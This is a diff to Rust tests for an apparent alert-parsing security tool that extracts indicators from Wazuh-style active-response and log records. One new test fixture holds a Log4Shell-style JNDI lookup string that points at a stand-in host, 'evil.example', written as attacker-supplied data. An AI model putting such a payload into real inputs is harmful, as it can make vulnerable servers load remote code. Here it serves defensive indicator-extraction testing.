@@ -14,7 +14,7 @@ fn an_active_response_is_about_the_alert_that_it_answers() {
         "full_log": "sshd[1]: Failed password for root from 203.0.113.9 port 22 ssh2",
     });
     let response = json!({
-        "agent": {"id": "001", "name": "web01", "ip": "198.51.100.77"},
+        "agent": {"id": "001", "name": "web01", "ip": "198.51.100.77"}, "decoder": {"name": "ar_log_json"},
         "data": {"version": "1", "command": "add", "parameters": {"program": "active-response/bin/firewall-drop", "alert": occasion}},
     });
     expect(&response, &[("ip-src", "203.0.113.9")]);
@@ -148,7 +148,24 @@ fn only_a_response_brings_the_alert_that_it_answers() {
     };
     assert_eq!(of("ar_log_json", json!([])), (true, 1, false));
     assert_eq!(of("x", json!(["active_response"])), (true, 1, false));
-    assert_eq!(of("json", json!(["web"])), (false, 0, true));
+    assert_eq!(of("json", json!(["web"])), (false, 1, true));
+    // In any other log fields of these names are fields like others, and may hold what an attacker wrote.
+    let other = |decoder: Value| {
+        json!({"decoder": decoder, "data": {"parameters": {"program": "x", "alert": {"q": "${jndi:ldap://evil.example/a}",
+            "srcip": "203.0.113.9", "rule": {"sha1": "d12041b8d3c993c94f8e3987f57946d1dae36728"}}}}})
+    };
+    for other in [other(json!({"name": "json"})), other(json!({}))] {
+        expect(
+            &other,
+            &[
+                ("domain", "evil.example"),
+                ("url", "ldap://evil.example/a"),
+                ("ip-src", "203.0.113.9"),
+                ("sha1", "d12041b8d3c993c94f8e3987f57946d1dae36728"),
+            ],
+        );
+        assert_eq!(alert(&other).actors().sources[0].ip.as_deref(), Some("203.0.113.9"));
+    }
 }
 
 #[test]
